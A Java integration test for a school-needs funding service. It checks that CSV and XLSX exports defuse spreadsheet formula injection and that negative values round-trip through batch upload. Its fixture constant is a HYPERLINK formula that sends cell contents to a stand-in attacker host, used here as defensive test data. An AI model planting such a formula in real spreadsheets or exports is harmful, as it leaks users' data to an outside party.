package uk.send.funding.exports.rest;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import uk.send.devstack.DevTokens;
import uk.send.devstack.DevstackTestResource;
import uk.send.funding.FundingFixtures;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;

/**
 * Text typed as a spreadsheet formula (OWASP "CSV injection") comes out of funding-service's CSV downloads with a
 * {@code '} in front, amounts exactly as before, the XLSX as a plain string cell; the decision log's CSV keeps its
 * negative numbers as numbers and, uploaded back as a batch, stores what was first sent
 * (a cell quoted as {@code '-2} is read as {@code -2}).
 */
@QuarkusTest
@QuarkusTestResource(value = DevstackTestResource.class, initArgs = @ResourceArg(name = "database", value = "funding"))
class SpreadsheetFormulaExportsTest {

    private static final String EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    private static final LocalDate TODAY = LocalDate.now();

    private final FundingFixtures la = new FundingFixtures("SF" + UUID.randomUUID().toString().substring(0, 6));
    private final String cms = DevTokens.mint(la.la, "cms-client", "case-management");

    @Test
    void shouldQuoteAFormulaLikeBandDescriptionInTheCsvAndKeepItAStringCellInTheXlsx() throws IOException {
        String scheme = la.approved("2025-26", "MAINSTREAM", List.of(Map.of("code", "B1", "description", EVIL, "annualValue", "3000.00"),
                Map.of("code", "B2", "description", "-5 hours: see note", "annualValue", "4500.50"),
                Map.of("code", "B3", "description", "Moderate needs, small-group support", "annualValue", "6000.00")));

        String csv = given().auth().oauth2(la.finance).queryParam("format", "csv").get("/api/v1/banding-schemes/" + scheme + "/export")
                .then().statusCode(200).contentType("text/csv; charset=UTF-8").extract().asString();
        assertThat(csv).contains(",B1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",3000.00\r\n",
                ",B2,'-5 hours: see note,4500.50\r\n", ",B3,\"Moderate needs, small-group support\",6000.00\r\n");

        byte[] xlsx = given().auth().oauth2(la.finance).queryParam("format", "xlsx").get("/api/v1/banding-schemes/" + scheme + "/export")
                .then().statusCode(200).extract().asByteArray();
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            Row b1 = wb.getFirstSheet().read().get(1);
            assertThat(b1.getCell(6).getType()).isEqualTo(CellType.STRING);
            assertThat(b1.getCell(6).getText()).isEqualTo(EVIL);
            assertThat(b1.getCell(7).getType()).isEqualTo(CellType.NUMBER);
            assertThat(b1.getCell(7).asNumber()).isEqualByComparingTo("3000.00");
        }
    }

    @Test
    void shouldWriteANegativeYearAsANumberInTheDecisionLogAndReadTheExportBackAsSent() throws IOException {
        // Every text field of a decision is a code or an id that starts with a letter or digit (DecisionRules), so the log
        // export has no typed text to quote; its one signed value, ncy (N1 is -2), stays a plain number.
        String ref = "EHCP-SF-" + UUID.randomUUID().toString().substring(0, 6);
        given().auth().oauth2(cms).contentType(ContentType.JSON)
                .body(Map.of("sourceId", "SF-1", "ehcpRef", ref, "kind", "ASSESSMENT_REQUESTED", "decisionDate", TODAY.minusDays(10).toString(),
                        "ncy", -2, "caseOfficerId", "jsmith"))
                .post("/api/v1/ehcp-decisions").then().statusCode(201);

        String officer = DevTokens.mint(la.la, "officer@" + la.la + ".gov.uk", "sen-officer");
        String csv = given().auth().oauth2(officer).get("/api/v1/ehcp-decisions/export").then().statusCode(200).extract().asString();
        assertThat(csv).contains("," + TODAY.minusDays(10) + ",-2,jsmith,").doesNotContain("'");
        CSVParser parser = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv));
        List<String> header = parser.getHeaderNames();
        List<CSVRecord> rows = parser.getRecords();
        assertThat(rows).singleElement().satisfies(r -> assertThat(r.get("ncy")).isEqualTo("-2"));

        // The export's decision columns (all but decisionId, recordedAt and supersededBy) uploaded as a batch, under a new sourceId.
        StringWriter batch = new StringWriter();
        try (CSVPrinter printer = CSVFormat.DEFAULT.builder().setHeader(header.subList(3, header.size()).toArray(String[]::new)).get().print(batch)) {
            List<String> values = new ArrayList<>(rows.get(0).toList().subList(3, header.size()));
            values.set(0, "SF-2");
            printer.printRecord(values);
            // and a line as a spreadsheet user keeps a negative year as text: the quote comes off
            values.set(0, "SF-3");
            values.set(4, "'-2");
            printer.printRecord(values);
        }
        Response uploaded = given().auth().oauth2(cms).contentType("text/csv").body(batch.toString().getBytes(StandardCharsets.UTF_8))
                .post("/api/v1/ehcp-decisions/batches");
        uploaded.then().statusCode(202);
        String batchId = uploaded.jsonPath().getString("batchId");
        await().atMost(Duration.ofSeconds(60)).untilAsserted(() -> given().auth().oauth2(cms).get("/api/v1/ehcp-decisions/batches/" + batchId)
                .then().statusCode(200).body("status", equalTo("COMPLETED")).body("accepted", equalTo(2)));
        given().auth().oauth2(officer).get("/api/v1/ehcps/" + ref + "/decisions").then().statusCode(200)
                .body("items.find { it.sourceId == 'SF-2' }.ncy", equalTo(-2))
                .body("items.find { it.sourceId == 'SF-2' }.caseOfficerId", equalTo("jsmith"))
                .body("items.find { it.sourceId == 'SF-3' }.ncy", equalTo(-2));
    }
}
